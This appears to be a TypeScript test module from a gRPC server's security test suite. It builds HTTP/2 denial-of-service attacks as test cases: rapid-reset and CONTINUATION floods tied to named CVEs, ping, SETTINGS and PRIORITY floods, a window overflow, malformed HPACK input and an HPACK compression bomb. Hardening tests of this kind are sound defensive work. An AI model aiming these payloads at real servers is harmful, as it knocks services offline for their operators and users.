/** Floods of frames, and heads that are larger than they look. */
import { setTimeout as sleep } from 'node:timers/promises';
import {
  END_HEADERS,
  END_STREAM,
  fields,
  grpcFields,
  h2Frame,
  type Pairs,
  prefixed,
  rawH2,
  settings,
  TYPE,
  uint32,
} from '../support/h2-frames.ts';
import {
  type Attack,
  CANCELLED,
  CHECK,
  flood,
  head,
  MAX_FRAME,
  same,
  spoilt,
  streamIds,
  WHOLE,
} from './grpc-hostile.ts';

export const FLOODS: readonly Attack[] = [
  {
    name: 'rapid reset: 20 000 calls opened and cancelled (CVE-2023-44487)',
    isEnded: true,
    attack: (victim) =>
      flood(victim, (at) => spoilt(at, 100, (id) => h2Frame(TYPE.reset, 0, id, CANCELLED)), 200),
  },
  {
    name: '10 000 calls that make the server reset them (CVE-2025-8671)',
    isEnded: true,
    attack: (victim) =>
      flood(victim, (at) => spoilt(at, 100, (id) => h2Frame(TYPE.windowUpdate, 0, id, uint32(0))), 100),
  },
  {
    name: '20 000 SETTINGS frames',
    isEnded: true,
    attack: (victim) => flood(victim, () => same(settings([3, 100]), 200), 100),
  },
  {
    name: '200 000 pings',
    isEnded: true,
    attack: (victim) => flood(victim, () => same(h2Frame(TYPE.ping, 0, 0, Buffer.alloc(8)), 1_000), 200),
  },
  {
    name: '100 000 pings of a client that reads nothing',
    isEnded: true,
    async attack({ grpc }) {
      const raw = await rawH2(grpc, { deaf: true });
      const pings = same(h2Frame(TYPE.ping, 0, 0, Buffer.alloc(8)), 1_000);
      for (let at = 0; at < 100; at++) {
        await Promise.race([raw.send(...pings), sleep(50)]);
      }
      raw.socket.resume();
      return { connections: [raw] };
    },
  },
  {
    name: '1 000 CONTINUATION frames of one head (CVE-2024-27316)',
    isEnded: true,
    attack: (victim) =>
      flood(
        victim,
        (at) =>
          at === 0
            ? [h2Frame(TYPE.headers, 0, 1, fields(grpcFields(CHECK)))]
            : same(h2Frame(TYPE.continuation, 0, 1, fields([['x-more', 'y'.repeat(100)]])), 10),
        100,
      ),
  },
  {
    name: '10 000 empty CONTINUATION frames',
    isEnded: true,
    attack: (victim) =>
      flood(
        victim,
        (at) => (at === 0 ? [h2Frame(TYPE.headers, 0, 1)] : same(h2Frame(TYPE.continuation, 0, 1), 100)),
        100,
      ),
  },
  {
    name: '10 000 empty DATA frames (CVE-2019-9518)',
    isEnded: true,
    attack: (victim) =>
      flood(victim, (at) => (at === 0 ? [head(1)] : same(h2Frame(TYPE.data, 0, 1), 100)), 100),
  },
  {
    name: '5 000 heads without a field',
    isEnded: true,
    attack: (victim) =>
      flood(victim, (at) => streamIds(100).map((id) => h2Frame(TYPE.headers, WHOLE, id + 200 * at)), 50),
  },
  {
    name: '200 000 PRIORITY frames',
    attack: (victim) =>
      flood(
        victim,
        (at) => streamIds(1_000).map((id) => h2Frame(TYPE.priority, 0, id + 2_000 * (at % 50), priority(at))),
        200,
      ),
  },
  {
    name: '200 000 WINDOW_UPDATE frames',
    attack: (victim) => flood(victim, () => same(h2Frame(TYPE.windowUpdate, 0, 0, uint32(1)), 1_000), 200),
  },
  {
    name: 'a window that overflows',
    isEnded: true,
    attack: (victim) => flood(victim, () => [h2Frame(TYPE.windowUpdate, 0, 0, uint32(0x7fff_ffff))], 2),
  },
];

function priority(at: number): Buffer {
  return Buffer.concat([uint32(2 * at), Buffer.from([at & 255])]);
}

/** 4 KB in the dynamic table, then a byte each time it is said again: 250 MB from 60 KB. */
function bomb(): Buffer {
  const value = Buffer.alloc(4_000, 'b');
  const insert = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), prefixed(value.length, 7), value]);
  return Buffer.concat([fields(grpcFields(CHECK)), insert, Buffer.alloc(12_000, 0x80 | 62)]);
}

export const HEADS_ATTACKS: readonly Attack[] = [
  {
    name: 'an HPACK bomb, 200 times',
    attack: (victim) => flood(victim, (at) => [h2Frame(TYPE.headers, WHOLE, 2 * at + 1, bomb())], 200),
  },
  {
    name: 'a field that names an entry which is not there',
    isEnded: true,
    attack: (victim) =>
      flood(victim, () => [h2Frame(TYPE.headers, WHOLE, 1, Buffer.from([0xff, 0x80, 0x01]))], 1),
  },
  {
    name: 'a dynamic table larger than allowed',
    isEnded: true,
    attack: (victim) =>
      flood(victim, () => [h2Frame(TYPE.headers, WHOLE, 1, Buffer.from([0x3f, 0xe1, 0xff, 0xff, 0x7f]))], 1),
  },
  {
    name: '10 000 short fields in one head, 50 times',
    holds: true,
    attack: (victim) =>
      flood(
        victim,
        (at) => {
          const block = fields([...grpcFields(CHECK), ...repeated<Pairs[number]>(['a', 'b'], 10_000)]);
          return inFrames(2 * at + 1, block);
        },
        50,
      ),
  },
  {
    name: 'one field of 1 MB',
    attack: (victim) =>
      flood(victim, () => inFrames(1, fields(grpcFields(CHECK, [['x', 'y'.repeat(1_000_000)]]))), 1),
  },
];

function repeated<T>(item: T, times: number): T[] {
  return Array.from({ length: times }, () => item);
}

function inFrames(stream: number, block: Buffer): Buffer[] {
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += MAX_FRAME) {
    const flags = at + MAX_FRAME >= block.length ? END_HEADERS : 0;
    const type = at === 0 ? TYPE.headers : TYPE.continuation;
    frames.push(
      h2Frame(type, at === 0 ? flags | END_STREAM : flags, stream, block.subarray(at, at + MAX_FRAME)),
    );
  }
  return frames;
}
